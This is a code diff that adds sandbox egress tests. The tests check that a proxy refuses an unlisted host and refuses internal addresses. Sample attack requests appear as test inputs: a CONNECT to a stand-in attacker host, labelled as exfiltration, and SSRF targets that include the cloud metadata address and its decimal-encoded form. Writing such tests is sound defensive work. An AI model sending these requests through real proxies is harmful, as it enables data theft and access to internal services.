@@ -169,7 +169,15 @@ def denied(
 
 
 def _network_none(policy: Policy) -> str | None:
-    if policy.network.mode != "none":
+    """Direct egress must fail in both modes corral has: in 'allowlist' the box's
+    only way out is the proxy's listener, never a route."""
+    if policy.network.mode not in ("none", "allowlist"):
+        return f"not applicable: network mode {policy.network.mode}"
+    return None
+
+
+def _allowlist(policy: Policy) -> str | None:
+    if policy.network.mode != "allowlist":
         return f"not applicable: network mode {policy.network.mode}"
     return None
 
@@ -828,6 +836,48 @@ async def _host_loopback(ctx: Context) -> Outcome:
     if seen["interfaces"] != "lo":
         return Outcome("fail", f"interfaces: {seen['interfaces']}")
     return _all_in({"host_service": seen["host_service"]}, {"ECONNREFUSED"})
+
+
+_ASK_PROXY = r"""
+s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
+s.sendall(b"CONNECT " + TARGET + b" HTTP/1.1\r\n\r\n")
+reply = b""
+while chunk := s.recv(4096):
+    reply += chunk
+out["status"] = reply.split(b"\r\n")[0].decode()
+out["body"] = reply.split(b"\r\n\r\n", 1)[-1].decode(errors="replace").strip()
+"""
+
+
+@probe(
+    "net.proxy_unlisted",
+    "the proxy refuses a host the allowlist does not name",
+    "exfiltration to an attacker's server through the proxy",
+    "the proxy's rules: default deny",
+    applies=_allowlist,
+)
+async def _proxy_unlisted(ctx: Context) -> Outcome:
+    seen = await ctx.observe(_ASK_PROXY.replace("TARGET", "b'attacker.invalid:443'"))
+    ok = seen["status"].startswith("HTTP/1.1 403")
+    return Outcome("pass" if ok else "fail", seen["status"])
+
+
+@probe(
+    "net.proxy_internal",
+    "the proxy refuses internal and metadata addresses",
+    "SSRF: reaching 169.254.169.254, the host's loopback or the LAN through the proxy",
+    "the proxy resolves and checks every address itself",
+    applies=_allowlist,
+)
+async def _proxy_internal(ctx: Context) -> Outcome:
+    verdicts = []
+    for target in ("169.254.169.254:80", "2852039166:80", "127.0.0.1:22", "10.0.0.1:80"):
+        seen = await ctx.observe(_ASK_PROXY.replace("TARGET", repr(target.encode())))
+        # refused by the guard itself, not merely unreachable
+        guarded = "SSRF guard" in seen["body"] or "denied by rule" in seen["body"]
+        verdicts.append((target, guarded, seen["body"] or seen["status"]))
+    bad = [f"{t}: {why}" for t, guarded, why in verdicts if not guarded]
+    return Outcome("fail" if bad else "pass", "; ".join(bad) or "all refused by the SSRF guard")
 
 
 # -- processes and leaks ---------------------------------------------------------------
